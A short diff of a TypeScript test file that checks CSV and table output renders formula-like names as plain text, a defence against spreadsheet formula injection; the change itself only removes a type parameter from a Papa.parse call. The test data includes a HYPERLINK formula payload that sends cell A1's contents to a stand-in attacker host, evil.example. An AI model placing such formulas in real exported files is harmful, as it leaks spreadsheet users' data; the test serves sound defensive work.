@@ -7,7 +7,7 @@ import { renderRecord, renderTable } from '../../src/shell/output.ts'
 const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' =', '\u00a0=', '  @']
 const TAIL = 'HYPERLINK("http://evil.example/?"&A1,"x")'
 
-const cells = (csv: string) => Papa.parse<string[]>(csv, { delimiter: ',', newline: '\n' }).data
+const cells = (csv: string) => Papa.parse(csv, { delimiter: ',', newline: '\n' }).data
 
 describe('a name that would be a formula in a spreadsheet', () => {
   test.each(BEGINNINGS)('%j in a cell, a record and a heading is text', (beginning) => {
